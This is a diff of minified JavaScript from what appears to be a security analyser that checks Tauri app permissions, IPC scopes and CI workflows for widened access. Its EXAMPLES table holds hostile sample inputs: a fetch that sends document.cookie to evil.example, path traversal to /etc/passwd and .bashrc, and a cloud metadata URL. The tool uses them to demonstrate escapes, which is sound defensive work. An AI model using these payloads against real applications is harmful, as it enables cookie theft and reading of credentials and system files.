-"i"),TELLING_XCODE=new RegExp(`^(?!(?:${XCODE})$)[^]`),MOST_LINES5=2e3,LONGEST_LINE4=4e3;function tellingLines2(file2,layout,telling2){const found12=new Map,logical=logicalLines2(
+"i"),TELLING_XCODE=new RegExp(`^(?!(?:${XCODE})$)[^]`),MOST_LINES4=2e3,LONGEST_LINE4=4e3;function tellingLines2(file2,layout,telling2){const found12=new Map,logical=logicalLines2(
 file2.text,layout),hasLongTexts=layout.syntax==="shell"&&logical.some(({text:text3})=>beginsLongText(text3,layout));for(const{text:text3,first,last,isJoined}of logical){
 const isComment4=layout.comments.test(text3)&&!(hasLongTexts&&/["'`]|\$\(/.test(text3));if(!(!isJoined&&(isComment4||text3.length<=LONGEST_LINE4&&!telling2.test(
-text3)))){if(found12.size>=MOST_LINES5&&!found12.has(text3))return{lines:[...found12.values()],isCut:!0};found12.set(text3,{text:text3,at:{...(0,import_shared_acegos.topOf)(
+text3)))){if(found12.size>=MOST_LINES4&&!found12.has(text3))return{lines:[...found12.values()],isCut:!0};found12.set(text3,{text:text3,at:{...(0,import_shared_acegos.topOf)(
 file2.path),line:first,endLine:last}})}}return{lines:[...found12.values()],isCut:!1}}function beginsLongText(text3,{comments}){return comments.test(text3)?!1:text3.
 length>LONGEST_LINE4||text3.includes("<<")||!CLOSED_TEXTS.test(text3)}function logicalLines2(written7,layout){const found12=[];let parts2=[];for(const[index,raw]of withoutComments(
 inLines(written7,layout),layout).split(`
@@ -9535,9 +9562,9 @@ kind!=="object"||jobs.entries.size<=MOST_JOBS)return[];const message=`This workf
 (0,import_shared_acegos.gapAt)(jobs.at,{kind:"truncated",rests,message})]}var workflows={id:"workflows",scope:"repository",files:FILES10,read({files}){const own=[
 ...files.values()].filter(({path})=>isWorkflow(path));return{grants:jobsIn(own).flatMap(job=>[...actionGrants(job),...toolGrants(job),...tokenGrants(job),...heldTokens(
 job),...untrustedGrants(job),...secretGrants(job),...replacedGrants2(job),...sentGrants(job)]),gaps:own.flatMap(unreadGaps)}}},readers=[assetProtocol,buildSteps,
-cargoDeny,cargoLock,cargoManifest,csp,npmPackages,opening2,rustCommands,tauriAcl,tauriAllowlist,tauriConfig,workflows],MOST_LINES6=1e4,LONGEST_LINE5=2047,BLANK2="\
+cargoDeny,cargoLock,cargoManifest,csp,npmPackages,opening2,rustCommands,tauriAcl,tauriAllowlist,tauriConfig,workflows],MOST_LINES5=1e4,LONGEST_LINE5=2047,BLANK2="\
  	\r",MACRO="[attr]";function readGitAttributes(text3){const rules2=[],macros=[],unclear=[];for(const[index,written7]of text3.split(`
-`,MOST_LINES6+1).entries()){const line=index+1;if(isUnclear(written7)||line>MOST_LINES6){unclear.push({line,text:written7});continue}const read11=lineOf4(Buffer.
+`,MOST_LINES5+1).entries()){const line=index+1;if(isUnclear(written7)||line>MOST_LINES5){unclear.push({line,text:written7});continue}const read11=lineOf4(Buffer.
 from(written7,"utf8").toString("latin1"));read11!==void 0&&("name"in read11?macros.push({...read11,line}):rules2.push({...read11,line}))}return{rules:rules2,macros,
 unclear}}function isUnclear(line){return/^\uFEFF|\0|[ \t][-!]?builtin_/.test(line)||Buffer.byteLength(line,"utf8")>LONGEST_LINE5}function lineOf4(line){const start=passed2(
 line,0);if(start===line.length||line[start]==="#")return;const{text:text3,end}=quotedAt(line,start)??wordAt2(line,start);if(text3.startsWith(MACRO)&&text3.length>
@@ -10093,9 +10120,9 @@ var MOST_SHOWN=3;function inWords4(files){const shown4=files.slice(0,MOST_SHOWN)
 return(0,import_shared_aces.listInWords)(rest2>0?[...shown4,`${rest2} more files`]:shown4)}function changedPaths(before3,after2){const[was,is]=[idsByPath(before3),
 idsByPath(after2)],changed=new Set([...is].filter(([path,id])=>was.get(path)!==id).map(([path])=>path));for(const path of was.keys())is.has(path)||changed.add(path);
 return changed}function idsByPath({entries,unfollowed}){return new Map([...entries.map(({path,id})=>[path,id]),...unfollowed.map(({path,what,id})=>[path,id===null?
-Symbol(what):`${what} ${id}`])])}var MOST_LINES7=5,LONGEST_LINE6=240;function withExcerpts(findings,files){const split4=new Map;return findings.map(finding=>{const{
+Symbol(what):`${what} ${id}`])])}var MOST_LINES6=5,LONGEST_LINE6=240;function withExcerpts(findings,files){const split4=new Map;return findings.map(finding=>{const{
 path,line,endLine}=finding,lines2=split4.get(path)??(files.get(path)?.text??"").split(`
-`);split4.set(path,lines2);const quoted4=lines2.slice(line-1,Math.min(endLine,line+MOST_LINES7-1));return{...finding,excerpt:quoted4.map(shortened).join(`
+`);split4.set(path,lines2);const quoted4=lines2.slice(line-1,Math.min(endLine,line+MOST_LINES6-1));return{...finding,excerpt:quoted4.map(shortened).join(`
 `)}})}function shortened(line){const text3=line.replace(/\r$/,"");return text3.length<=LONGEST_LINE6?text3:`${text3.slice(0,LONGEST_LINE6).toWellFormed()}\u2026`}
 var DEEPEST20=3,PASSED_OVER=/(?:^|\/)(?:node_modules|target|\.[^/]+)(?:\/|$)/,IGNORE_FILES=[".taurignore",".gitignore"];function foundFrom(folder,apps,ignoring,work){
 for(const root of[folder,inFolder(folder,"src-tauri")]){const near=apps.find(app=>app.root===root);if(near!==void 0)return near}return appsBelow(folder,apps).toSorted(
@@ -10355,25 +10382,25 @@ null&&scope.deny.length>0)};return indexes3.set(head,index),index}function elsew
 map(({plugin})=>plugin))],mine=new Set(own),words4=indexOf2(head).denying.filter(grant2=>!mine.has(grant2)).flatMap(({scope,effect,command:command2,plugin})=>(effect===
 "scope"?plugins.has(plugin):called4.has(command2))?(scope?.deny??[]).map(textOf8):[]);return words4.length===0?{}:{[import_shared_aces.DENIED_ELSEWHERE]:distinct3(
 words4)}}function readingOf3({plugin,matching:matching3}){return matching3.kind==="none"?[]:[`${plugin} ${JSON.stringify(matching3)}`]}function grantsWithin(extent,head){
-const{pages=[],commands:commands2=[],platforms=[],allow:allow2,deny=[],reads:reads2=[]}=extent,kept=extent[import_shared_aces.DENIED_ELSEWHERE]??[];if(allow2===
-void 0&&kept.length>0)return[];const on3=(0,import_shared_aceps.platformSet)(...platforms.filter(import_shared_aceps.isPlatform)),[called4,read11]=[new Set(commands2),
-new Set(reads2)];return head.filter(({effect,command:command2})=>effect==="allow"&&called4.has(command2)).filter(grant2=>readingOf3(grant2).every(reading=>read11.
-has(reading))).flatMap(grant2=>{const scope=allow2===void 0?null:scopeOf5(allow2,[...deny,...kept],grant2.at);return pages.map(page=>({...grant2,...audienceOf(page,
-grant2),platforms:grant2.platforms&on3,scope}))})}function scopeOf5(allow2,deny,at2){const entries=texts2=>texts2.map(text3=>({...entryOf6(text3),text:text3,at:at2}));
-return{allow:entries(allow2),deny:entries(deny)}}function pageText({kind,label,from}){const where=from.kind==="site"?` at ${from.url}`:from.kind==="app-not-site"?
-", own pages":"";return`${kind} ${label}${where}`}function audienceOf(page,{at:at2,context:context2}){const[,kind,label="",url]=/^(window|webview) (.*?)(?:, own pages| at (\S+))?$/.
-exec(page)??[],pattern={text:label,at:at2},from=url===void 0?{kind:"local"}:{kind:"remote",url:{text:url,at:at2},...context2.kind==="remote"&&takenForLocal2(context2)};
-return{windows:kind==="window"?[pattern]:[],webviews:kind==="webview"?[pattern]:[],context:from}}function takenForLocal2({takenForLocal:takenForLocal3}){return takenForLocal3===
-void 0?{}:{takenForLocal:takenForLocal3}}function distinct3(words4){return[...new Set(words4)].sort()}var COMMAND_POWERS=["run","update","script","change-files",
-"read-files","sql","network","window"],RULE_OF_POWER={run:"commands/unchecked-program",update:"commands/unchecked-url",script:"commands/unchecked-program","chan\
-ge-files":"commands/unchecked-path","read-files":"commands/unchecked-path",sql:"commands/unchecked-program",network:"commands/unchecked-url",window:"commands/un\
-checked-url"};function extentOf2(change2){if(change2.rule==="commands/exposed")return{commands:change2.commands.map(({command:command2,inputs})=>`${command2}(${inputs.
-map(({name})=>name).join(", ")})`).sort()};const flows=[change2.flow,...change2.also].map(({power,input})=>`${power} by ${input}`);return{commands:[change2.command],
-callers:[change2.callers],does:[...new Set(flows)].sort()}}function pairedCommands(base,head){const byName4=new Map(base.map(grant2=>[grant2.command,grant2])),now=new Map(
-head.map(grant2=>[grant2.command,likeness2(grant2)])),gone=Map.groupBy(base.filter(grant2=>now.get(grant2.command)!==likeness2(grant2)),likeness2);return new Map(
-head.flatMap(grant2=>{const named13=byName4.get(grant2.command),renamed2=named13!==void 0&&likeness2(named13)===likeness2(grant2)?void 0:gone.get(likeness2(grant2))?.
-shift(),was=named13===void 0||renamed2===void 0?named13??renamed2:both3(named13,renamed2);return was===void 0?[]:[[grant2,was]]}))}function both3(named13,renamed2){
-return{...named13,flows:[...named13.flows,...renamed2.flows]}}function likeness2({door,inputs,flows,callers}){const does=flows.map(({power,checks})=>`${power} ${checks.
+const{pages=[],commands:commands2=[],platforms=[],allow:allow2,deny=[],reads:reads2=[]}=extent,kept=extent[import_shared_aces.DENIED_ELSEWHERE]??[],on3=(0,import_shared_aceps.platformSet)(
+...platforms.filter(import_shared_aceps.isPlatform)),[called4,read11]=[new Set(commands2),new Set(reads2)];return head.filter(({effect,command:command2})=>effect===
+"allow"&&called4.has(command2)).filter(grant2=>readingOf3(grant2).every(reading=>read11.has(reading))).flatMap(grant2=>{const scope=allow2===void 0&&kept.length===
+0?null:scopeOf5(allow2??[],[...deny,...kept],grant2.at);return pages.map(page=>({...grant2,...audienceOf(page,grant2),platforms:grant2.platforms&on3,scope}))})}
+function scopeOf5(allow2,deny,at2){const entries=texts2=>texts2.map(text3=>({...entryOf6(text3),text:text3,at:at2}));return{allow:entries(allow2),deny:entries(deny)}}
+function pageText({kind,label,from}){const where=from.kind==="site"?` at ${from.url}`:from.kind==="app-not-site"?", own pages":"";return`${kind} ${label}${where}`}
+function audienceOf(page,{at:at2,context:context2}){const[,kind,label="",url]=/^(window|webview) (.*?)(?:, own pages| at (\S+))?$/.exec(page)??[],pattern={text:label,
+at:at2},from=url===void 0?{kind:"local"}:{kind:"remote",url:{text:url,at:at2},...context2.kind==="remote"&&takenForLocal2(context2)};return{windows:kind==="wind\
+ow"?[pattern]:[],webviews:kind==="webview"?[pattern]:[],context:from}}function takenForLocal2({takenForLocal:takenForLocal3}){return takenForLocal3===void 0?{}:
+{takenForLocal:takenForLocal3}}function distinct3(words4){return[...new Set(words4)].sort()}var COMMAND_POWERS=["run","update","script","change-files","read-fil\
+es","sql","network","window"],RULE_OF_POWER={run:"commands/unchecked-program",update:"commands/unchecked-url",script:"commands/unchecked-program","change-files":"\
+commands/unchecked-path","read-files":"commands/unchecked-path",sql:"commands/unchecked-program",network:"commands/unchecked-url",window:"commands/unchecked-url"};
+function extentOf2(change2){if(change2.rule==="commands/exposed")return{commands:change2.commands.map(({command:command2,inputs})=>`${command2}(${inputs.map(({name})=>name).
+join(", ")})`).sort()};const flows=[change2.flow,...change2.also].map(({power,input})=>`${power} by ${input}`);return{commands:[change2.command],callers:[change2.
+callers],does:[...new Set(flows)].sort()}}function pairedCommands(base,head){const byName4=new Map(base.map(grant2=>[grant2.command,grant2])),now=new Map(head.map(
+grant2=>[grant2.command,likeness2(grant2)])),gone=Map.groupBy(base.filter(grant2=>now.get(grant2.command)!==likeness2(grant2)),likeness2);return new Map(head.flatMap(
+grant2=>{const named13=byName4.get(grant2.command),renamed2=named13!==void 0&&likeness2(named13)===likeness2(grant2)?void 0:gone.get(likeness2(grant2))?.shift(),
+was=named13===void 0||renamed2===void 0?named13??renamed2:both3(named13,renamed2);return was===void 0?[]:[[grant2,was]]}))}function both3(named13,renamed2){return{
+...named13,flows:[...named13.flows,...renamed2.flows]}}function likeness2({door,inputs,flows,callers}){const does=flows.map(({power,checks})=>`${power} ${checks.
 length>0}`);return JSON.stringify([door,inputs.map(({name,type})=>[name,type]),[...new Set(does)].sort(),callers])}var EXAMPLES={run:"/usr/bin/env",update:"http\
 s://evil.example/latest.json",script:"fetch('https://evil.example/' + document.cookie)","change-files":"../../../../home/user/.bashrc","read-files":"../../../..\
 /etc/passwd",sql:"SELECT * FROM sqlite_master",network:"http://169.254.169.254/latest/meta-data/",window:"https://evil.example/"},OF_CALLS=[[/read_dir|opendir|Walk|dir_content|^dir::/,
@@ -10975,7 +11002,7 @@ exec(text3)?.[0];return found12!==void 0&&(at2+=found12.length),found12}}var PAR
 h"];function eachPart(text3){return Object.fromEntries(PARTS3.map(part=>[part,text3(part)]))}function matchesUrl(pattern,url,work){const[parts2,target]=[patterns2(
 pattern,work),targets2(url,work)];if(parts2===void 0||target===void 0)return;const answers=new Set;for(const part of parts2){const answer2=takes2(part,target[part.
 name],work);if(answer2===!1)return!1;answers.add(answer2)}return answers.has(void 0)?void 0:!0}var targets2=remembered((url,work)=>{if(work.spend(url.length),!URL.
-canParse(url))return;const target=new URL(url);return eachPart(part=>withCarets2(target[part].replace(SIGNS3[part]??"",""),url))}),SIGNS3={protocol:/:$/,search:/^\?/,
+canParse(url))return;const target=new URL(url);return eachPart(part=>withCarets2(target[part].replace(SIGNS4[part]??"",""),url))}),SIGNS4={protocol:/:$/,search:/^\?/,
 hash:/^#/},MOST_SIGNS=2e3,SIGNS_FOR_A_STEP=32,patterns2=remembered((pattern,work)=>{work.spend(pattern.length);const{text:text3,expressions:expressions2}=withoutExpressions(
 pattern),signs=text3.split(/[*:({]/).length-1;if(signs>MOST_SIGNS)return;work.spend(Math.ceil(signs*signs/SIGNS_FOR_A_STEP));const parts2=partsOf16(text3),read11=expressions2.
 map(each=>plainExpression(each,work)),found12=PARTS3.map(name=>parts2&&partPattern(name,withCarets2(parts2[name],pattern),read11));return found12.every(part=>part!==
@@ -11340,44 +11367,44 @@ set(patterns3,known13);const found12=known13.get(label)??patterns3.filter(({text
 return known13.set(label,found12),found12}function scopeCause(principal,entries,table2,found12,before3,platforms,base,head){const[first]=entries,owners=[...entries,
 ...table2.globalScope(first.plugin)];if(found12.because==="no-longer-denied")return entryNoLongerDenied(first,found12.entry,platforms,base,head);const detail=found12.
 entry.text,owner=entries.filter(({scope})=>scope!==null).length>0?ownerAmong(owners,found12.entry):globalOwner(table2,first.plugin,found12.entry);if(owner===void 0)
-return first.matching.kind!=="opaque"?forSetting(first,first.at,base):{reason:widened({kind:"entry-gone"}),at:first.at,entry:first,detail};const culprit=owner.scope?.
-allow.find(entry=>entry.text===detail)??found12.entry,fromRelease=culprit.at===owner.at,had=base.had(owner).filter(({scope})=>holds5(scope?.allow,detail)),known13=allowedKeys(
-before3).has(detail);if(owner.effect==="allow"&&had.length>0&&!known13){const here=had.filter(grant2=>(grant2.platforms&platforms)!==import_shared_aceps.NO_PLATFORM);
-return here.length===0?forNewPlatform(owner,platforms,base):forNewPage(principal,owner,here)}if(fromRelease&&base.named(owner)&&had.length===0)return newMeaning(
-owner,redefinedAt(owner,base));if(known13&&base.changedSetting(owner)!==void 0)return forSetting(owner,culprit.at,base);const note4=known13?noteOnOrder(first):noteOnReach(
-principal,owner);return{reason:widened(note4),at:culprit.at,entry:owner,detail:fromRelease?owner.permission:detail}}function forSetting(entry,at2,base){const changed=base.
-changedSetting(entry);return{reason:widened({kind:"setting",setting:changed?.name??null}),at:changed?.at??at2,entry,detail:""}}function widened(note4){return{rule:"\
-ipc/scope-widened",note:note4}}function noteOnOrder({matching:matching3}){return matching3.kind==="programs"?{kind:"order"}:null}function ownerAmong(owners,entry){
-return owners.find(({scope})=>scope?.allow.includes(entry))??owners.find(({scope})=>holds5(scope?.allow,entry.text))}var globalOwners=new WeakMap;function globalOwner(table2,plugin,entry){
-const known13=globalOwners.get(table2)??new Map;globalOwners.set(table2,known13);const{path,line,column}=entry.at,name=[plugin,path,line,column,entry.text].join(
-" ");return known13.has(name)||known13.set(name,ownerAmong(table2.globalScope(plugin),entry)),known13.get(name)}var keysOfSides=new WeakMap;function allowedKeys(side){
-const keys=keysOfSides.get(side)??new Set(side.allow.map(({text:text3})=>text3));return keysOfSides.set(side,keys),keys}function noteOnReach(principal,owner){return owner.
-effect==="scope"&&patternsFor(principal,owner).length===0?{kind:"plugin-wide"}:null}function holds5(entries,key3){return entries?.some(entry=>entry.text===key3)??
-!1}function sideOf2(entries,table2){const matching3=entries[0]?.matching??NO_RULES,plugin=entries[0]?.plugin??"",scoped=entries.filter(({scope})=>scope!==null);
-if(scoped.length>0)return sideFrom([...inOrder2(scoped),...inOrder2(table2.globalScope(plugin))],matching3);const known13=globalSides.get(table2)??new Map;globalSides.
-set(table2,known13);const name=`${plugin} ${canonical(matching3)}`,side=known13.get(name)??sideFrom(inOrder2(table2.globalScope(plugin)),matching3);return known13.
-set(name,side),side}var NO_RULES={kind:"none"},globalSides=new WeakMap;function sideFrom(grants,matching3){return{allow:grants.flatMap(({scope})=>scope?.allow??
-[]),deny:grants.flatMap(({scope})=>scope?.deny??[]),matching:matching3}}function unscoped({matching:matching3}){return{allow:[],deny:[],matching:matching3.kind===
-"text"?{kind:"text",accepts:"[]"}:matching3}}var NOTHING_POURED=new Map;function newlyPoured(head,before3){const granting=new Set(head.flatMap(({effect,at:at2})=>effect===
-"allow"?[lineOf5(at2)]:[])),scopes=head.filter(({effect,at:at2})=>effect==="scope"&&!granting.has(lineOf5(at2))),fresh=[...Map.groupBy(scopes,({plugin})=>plugin)].
-map(([plugin,grants])=>{const had=new Set(before3.globalScope(plugin).flatMap(({scope})=>scope?.allow.map(({text:text3})=>text3)??[])),isNew2=entry=>!had.has(entry.
-text);return[plugin,grants.filter(({scope})=>scope?.allow.some(isNew2))]});return new Map(fresh)}function lineOf5({path,line,column}){return`${line} ${column} ${path}`}
-function sideAlone(side,entries,poured2){const elsewhere2=poured2.get(entries[0]?.plugin??"")??[];if(elsewhere2.length===0)return side;const others=new Set(elsewhere2.
-flatMap(({scope})=>scope?.allow??[]));return{...side,allow:side.allow.filter(entry=>!others.has(entry))}}function inOrder2(grants){return[...grants].sort((a3,b5)=>a3.
-order-b5.order)}function isNew({page,command:command2,before:before3}){return before3.denying(page.audiences,command2).length>0||before3.allowing(page.audiences,
-command2).length===0}function noteNewCall(question){const{page,command:command2,before:before3,after:after2,poured:poured2,ask,platforms,work}=question,entries=after2.
-allowing(page.audiences,command2),[denied2]=before3.allowing(page.audiences,command2).length>0?before3.denying(page.audiences,command2):[],scope=sideOf2(entries,
-after2);if(scope.matching.kind==="none"||scope.matching.kind==="opaque"){for(const platform of platforms)note(question,platform,void 0,"unscoped",causeAmong(question,
-entries,denied2,platform));return[]}const alone2=sideAlone(scope,entries,poured2),gaps=[];for(const platform of platforms){const answer2=ask(unscoped(alone2),alone2,
-command2,platform,work),{escapes,undecided}=answer2,example=escapes.find(({sensitive})=>sensitive)??escapes[0],reach2=undecided.length>0?"unscoped":example===void 0?
-"nothing":reachOf3(example),ownersFirst=example===void 0?entries:entries.toSorted(byOwning(example));note(question,platform,example,reach2,causeAmong(question,ownersFirst,
-denied2,platform)),gaps.push(...gapsOf2(command2,entries,answer2)),alone2!==scope&&gaps.push(...noteEscapes(question,entries,alone2,scope,platform))}return gaps}
-function noteWiderScope(question){const{page,command:command2,before:before3,after:after2,platforms}=question,entries=after2.allowing(page.audiences,command2),[
-head,base]=[sideOf2(entries,after2),sideOf2(before3.allowing(page.audiences,command2),before3)];return head.matching.kind==="none"||base.matching.kind==="none"?
-[]:platforms.flatMap(platform=>noteEscapes(question,entries,base,head,platform))}function noteEscapes(question,entries,narrow,wide,platform){const{after:after2,
-base,head,command:command2,work}=question,answer2=question.ask(narrow,wide,command2,platform,work);for(const example of answer2.escapes)note(question,platform,example,
-reachOf3(example),principal=>scopeCause(principal,entries,after2,example,narrow,(0,import_shared_aceps.platformSet)(platform),base,head));return gapsOf2(command2,
-entries,answer2)}function causeAmong({base,head},entries,denied2,platform){return principal=>causeOf2(principal,entries,denied2,(0,import_shared_aceps.platformSet)(
+return first.matching.kind!=="opaque"?forSetting(first,first.at,base):{reason:widened({kind:"entry-gone"}),at:first.at,entry:first,detail};const calledBy2=owner.
+effect==="scope"?{calledBy:first}:{},culprit=owner.scope?.allow.find(entry=>entry.text===detail)??found12.entry,fromRelease=culprit.at===owner.at,had=base.had(owner).
+filter(({scope})=>holds5(scope?.allow,detail)),known13=allowedKeys(before3).has(detail);if(owner.effect==="allow"&&had.length>0&&!known13){const here=had.filter(
+grant2=>(grant2.platforms&platforms)!==import_shared_aceps.NO_PLATFORM);return here.length===0?forNewPlatform(owner,platforms,base):forNewPage(principal,owner,here)}
+if(fromRelease&&base.named(owner)&&had.length===0)return{...newMeaning(owner,redefinedAt(owner,base)),...calledBy2};if(known13&&base.changedSetting(owner)!==void 0)
+return forSetting(owner,culprit.at,base);const note4=known13?noteOnOrder(first):noteOnReach(principal,owner);return{reason:widened(note4),at:culprit.at,entry:owner,
+detail:fromRelease?owner.permission:detail,...calledBy2}}function forSetting(entry,at2,base){const changed=base.changedSetting(entry);return{reason:widened({kind:"\
+setting",setting:changed?.name??null}),at:changed?.at??at2,entry,detail:""}}function widened(note4){return{rule:"ipc/scope-widened",note:note4}}function noteOnOrder({
+matching:matching3}){return matching3.kind==="programs"?{kind:"order"}:null}function ownerAmong(owners,entry){return owners.find(({scope})=>scope?.allow.includes(
+entry))??owners.find(({scope})=>holds5(scope?.allow,entry.text))}var globalOwners=new WeakMap;function globalOwner(table2,plugin,entry){const known13=globalOwners.
+get(table2)??new Map;globalOwners.set(table2,known13);const{path,line,column}=entry.at,name=[plugin,path,line,column,entry.text].join(" ");return known13.has(name)||
+known13.set(name,ownerAmong(table2.globalScope(plugin),entry)),known13.get(name)}var keysOfSides=new WeakMap;function allowedKeys(side){const keys=keysOfSides.get(
+side)??new Set(side.allow.map(({text:text3})=>text3));return keysOfSides.set(side,keys),keys}function noteOnReach(principal,owner){return owner.effect==="scope"&&
+patternsFor(principal,owner).length===0?{kind:"plugin-wide"}:null}function holds5(entries,key3){return entries?.some(entry=>entry.text===key3)??!1}function sideOf2(entries,table2){
+const matching3=entries[0]?.matching??NO_RULES,plugin=entries[0]?.plugin??"",scoped=entries.filter(({scope})=>scope!==null);if(scoped.length>0)return sideFrom([
+...inOrder2(scoped),...inOrder2(table2.globalScope(plugin))],matching3);const known13=globalSides.get(table2)??new Map;globalSides.set(table2,known13);const name=`${plugin}\
+ ${canonical(matching3)}`,side=known13.get(name)??sideFrom(inOrder2(table2.globalScope(plugin)),matching3);return known13.set(name,side),side}var NO_RULES={kind:"\
+none"},globalSides=new WeakMap;function sideFrom(grants,matching3){return{allow:grants.flatMap(({scope})=>scope?.allow??[]),deny:grants.flatMap(({scope})=>scope?.
+deny??[]),matching:matching3}}function unscoped({matching:matching3}){return{allow:[],deny:[],matching:matching3.kind==="text"?{kind:"text",accepts:"[]"}:matching3}}
+var NOTHING_POURED=new Map;function newlyPoured(head,before3){const granting=new Set(head.flatMap(({effect,at:at2})=>effect==="allow"?[lineOf5(at2)]:[])),scopes=head.
+filter(({effect,at:at2})=>effect==="scope"&&!granting.has(lineOf5(at2))),fresh=[...Map.groupBy(scopes,({plugin})=>plugin)].map(([plugin,grants])=>{const had=new Set(
+before3.globalScope(plugin).flatMap(({scope})=>scope?.allow.map(({text:text3})=>text3)??[])),isNew2=entry=>!had.has(entry.text);return[plugin,grants.filter(({scope})=>scope?.
+allow.some(isNew2))]});return new Map(fresh)}function lineOf5({path,line,column}){return`${line} ${column} ${path}`}function sideAlone(side,entries,poured2){const elsewhere2=poured2.
+get(entries[0]?.plugin??"")??[];if(elsewhere2.length===0)return side;const others=new Set(elsewhere2.flatMap(({scope})=>scope?.allow??[]));return{...side,allow:side.
+allow.filter(entry=>!others.has(entry))}}function inOrder2(grants){return[...grants].sort((a3,b5)=>a3.order-b5.order)}function isNew({page,command:command2,before:before3}){
+return before3.denying(page.audiences,command2).length>0||before3.allowing(page.audiences,command2).length===0}function noteNewCall(question){const{page,command:command2,
+before:before3,after:after2,poured:poured2,ask,platforms,work}=question,entries=after2.allowing(page.audiences,command2),[denied2]=before3.allowing(page.audiences,
+command2).length>0?before3.denying(page.audiences,command2):[],scope=sideOf2(entries,after2);if(scope.matching.kind==="none"||scope.matching.kind==="opaque"){for(const platform of platforms)
+note(question,platform,void 0,"unscoped",causeAmong(question,entries,denied2,platform));return[]}const alone2=sideAlone(scope,entries,poured2),gaps=[];for(const platform of platforms){
+const answer2=ask(unscoped(alone2),alone2,command2,platform,work),{escapes,undecided}=answer2,example=escapes.find(({sensitive})=>sensitive)??escapes[0],reach2=undecided.
+length>0?"unscoped":example===void 0?"nothing":reachOf3(example),ownersFirst=example===void 0?entries:entries.toSorted(byOwning(example));note(question,platform,
+example,reach2,causeAmong(question,ownersFirst,denied2,platform)),gaps.push(...gapsOf2(command2,entries,answer2)),alone2!==scope&&gaps.push(...noteEscapes(question,
+entries,alone2,scope,platform))}return gaps}function noteWiderScope(question){const{page,command:command2,before:before3,after:after2,platforms}=question,entries=after2.
+allowing(page.audiences,command2),[head,base]=[sideOf2(entries,after2),sideOf2(before3.allowing(page.audiences,command2),before3)];return head.matching.kind==="\
+none"||base.matching.kind==="none"?[]:platforms.flatMap(platform=>noteEscapes(question,entries,base,head,platform))}function noteEscapes(question,entries,narrow,wide,platform){
+const{after:after2,base,head,command:command2,work}=question,answer2=question.ask(narrow,wide,command2,platform,work);for(const example of answer2.escapes)note(
+question,platform,example,reachOf3(example),principal=>scopeCause(principal,entries,after2,example,narrow,(0,import_shared_aceps.platformSet)(platform),base,head));
+return gapsOf2(command2,entries,answer2)}function causeAmong({base,head},entries,denied2,platform){return principal=>causeOf2(principal,entries,denied2,(0,import_shared_aceps.platformSet)(
 platform),base,head)}function note(question,platform,example,reach2,causeFor){const{page,command:command2,drafts,mayBefore,mayInOwnWindow}=question,isWholeCall=isNew(
 question);for(const principal of page.principals){const crosses=principal.origin!=="local"&&!mayBefore(principal.origin).has(command2),inOwnWindow=isWholeCall&&
 mayInOwnWindow(principal).has(command2);drafts.add(causeFor(principal),{principal,command:command2,platform,example,reach:reach2,crosses,inOwnWindow})}}function byOwning({
@@ -11463,27 +11490,28 @@ return{kind:"invoke",text:command2===import_shared_aces.ASSET_URLS?`fetch(conver
 principal.origin,command:command2,payload,...call2.example?.runs!==void 0&&{runs:call2.example.runs},...call2.example?.startedIn!==void 0&&{startedIn:call2.example.
 startedIn}}}function argumentsFor(command2,payload){const{path,url}=payload;return command2==="plugin:fs|rename"&&path!==void 0?{oldPath:path,newPath:path}:command2===
 "plugin:fs|copy_file"&&path!==void 0?{fromPath:path,toPath:path}:command2==="plugin:http|fetch"&&url!==void 0?{clientConfig:{method:"GET",url}}:{...payload}}function pageName(principal,cause){
-const{entry}=cause,[pattern]=patternsFor(principal,entry);return{kind:pattern===void 0||entry.windows.includes(pattern)?"window":"webview",label:pattern?.text??
-principal.window,from:originOf3(principal,cause)}}function originOf3({origin},cause){if(origin==="local")return{kind:isForOwnPages(cause)?"app-not-site":"app"};
-const{context:context2}=cause.entry;return{kind:"site",url:context2.kind==="remote"?context2.url.text:origin}}function isForOwnPages({reason}){return reason.rule===
-"ipc/app-commands-open"?reason.to==="own-pages":reason.rule==="ipc/window-added"&&reason.note==="own-pages"}var Drafts=class{#drafts=new Map;#lines=new Map;add(cause,call2){
-const identity=identityOf5(cause),line=this.#lines.get(identity)??lineOf6(cause);this.#lines.set(identity,line);const draft=this.#drafts.get(line)??emptyDraft(cause,
-call2);this.#drafts.set(line,draft),draft.identities.add(identity),draft.commands.add(call2.command),draft.permissions.add(cause.entry.permission);const page=pageName(
-call2.principal,cause);draft.pages.set(keyOf8(page),page),isNoted(cause.reason)&&(draft.noted??=cause.reason),draft.platforms|=(0,import_shared_aceps.platformSet)(
-call2.platform);const worth=worthOf(call2,cause);(worth.rank-draft.bestWorth.rank||worth.weight-draft.bestWorth.weight)>0&&(draft.cause=cause,draft.best=call2,draft.
-bestWorth=worth,draft.bestOn=import_shared_aceps.NO_PLATFORM),isSameCall(call2,draft.best)&&(draft.bestOn|=(0,import_shared_aceps.platformSet)(call2.platform))}changes(direction,appIsNew){
-return joined8([...this.#drafts.values()].map(draft=>({change:changeOf3(draft,direction,appIsNew),rank:draft.bestWorth.rank})))}};function emptyDraft(cause,best){
-return{cause,noted:void 0,identities:new Set,commands:new Set,permissions:new Set,pages:new Map,platforms:import_shared_aceps.NO_PLATFORM,best,bestOn:import_shared_aceps.NO_PLATFORM,
-bestWorth:worthOf(best,cause)}}function keyOf8({kind,label,from}){return`${kind}\0${label}\0${from.kind}\0${from.kind==="site"?from.url:""}`}function lineOf6({reason,
-at:{path,line,column},detail}){const forWhom=reason.rule==="ipc/app-commands-open"?detail:"";return JSON.stringify([reason.rule,path,line,column,forWhom,denialIn(
-reason)])}function identityOf5({reason,entry,detail}){const what=reason.rule.slice(4),setting45=settingIn3(reason);if(setting45!==null)return JSON.stringify([what,
-setting45]);const denial=denialIn(reason);return denial.length>0?JSON.stringify([what,...denial,detail]):JSON.stringify([what,entry.capability,isOfWhole(reason)?
-"":entry.permission,detail])}function settingIn3(reason){return reason.rule==="ipc/scope-widened"&&reason.note?.kind==="setting"?reason.note.setting:null}function denialIn(reason){
-if(reason.rule!=="ipc/deny-removed"||reason.denial===null)return[];const{capability,permission:permission2,of:of2}=reason.denial;return[capability,permission2,of2]}
-function isOfWhole(reason){switch(reason.rule){case"ipc/window-added":case"ipc/remote-origin-granted":case"ipc/platform-added":return!0;case"ipc/command-granted":
-return reason.note==="capability-enabled";default:return!1}}function isNoted(reason){return"note"in reason&&reason.note!==null}function worthOf(call2,cause){return{
-rank:rank2(call2,isGuessed(cause)),weight:weight(call2)}}function rank2({command:command2,principal,reach:reach2,crosses,inOwnWindow},guessed2){const remote=(0,import_shared_ce.isForeign)(
